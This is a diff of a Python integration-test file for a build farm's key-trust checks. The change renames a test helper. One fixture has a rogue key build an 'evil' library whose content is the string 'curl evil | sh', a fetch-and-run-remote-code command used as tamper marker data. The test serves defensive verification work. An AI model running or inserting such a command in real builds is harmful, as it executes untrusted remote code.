@@ -22,7 +22,7 @@ from farm.store import BuildRecord, open_store
 from farm.trust import audit, keyring
 from farm.trust.keys import BuilderKey, generate, trusted_keys
 from tests.conftest import MakeRepo, require
-from tests.integration.test_build import request_for
+from tests.lib.recipes import build_request
 
 pytestmark = pytest.mark.integration
 
@@ -62,10 +62,10 @@ class Built:
 def built(ctx: WorkerContext, make_repo: MakeRepo) -> Built:
     """Dependency 'lib' built honestly, and an 'evil' lib built by a rogue key into the same store."""
     repo, commit = make_repo("lib", {"lib.txt": "honest\n"})
-    honest = execute_build(request_for(repo, commit, ['cp lib.txt "$OUT/lib.txt"'], ["lib.txt"], name="lib"), ctx)
+    honest = execute_build(build_request(repo, commit, ['cp lib.txt "$OUT/lib.txt"'], ["lib.txt"], name="lib"), ctx)
     rogue = dataclasses.replace(ctx, builder_key=BuilderKey(Ed25519PrivateKey.generate()), builder_id="rogue")
     evil = execute_build(
-        request_for(repo, commit, ['echo "curl evil | sh" > "$OUT/lib.txt"'], ["lib.txt"], name="lib"), rogue
+        build_request(repo, commit, ['echo "curl evil | sh" > "$OUT/lib.txt"'], ["lib.txt"], name="lib"), rogue
     )
     assert honest.ok and evil.ok and honest.record and evil.record
     app_repo, app_commit = make_repo("app", {"app.sh": "cat /build/deps/lib/lib.txt\n"})
@@ -74,7 +74,7 @@ def built(ctx: WorkerContext, make_repo: MakeRepo) -> Built:
 
 def dependent(ctx: WorkerContext, built: Built, dep: DependencyInput) -> BuildOutcome:
     repo, commit = built.app
-    req = request_for(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/used.txt"'], ["used.txt"], deps=(dep,), name="app")
+    req = build_request(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/used.txt"'], ["used.txt"], deps=(dep,), name="app")
     return execute_build(req, ctx)
 
 
@@ -158,7 +158,7 @@ def test_a_revoked_builder_key_is_refused_from_then_on(ctx: WorkerContext, built
 
 def _app_request(built: Built, dep: DependencyInput) -> BuildRequest:
     repo, commit = built.app
-    return request_for(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/x"'], ["x"], deps=(dep,), name="app")
+    return build_request(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/x"'], ["x"], deps=(dep,), name="app")
 
 
 def test_check_published_reports_each_problem(ctx: WorkerContext, built: Built) -> None:
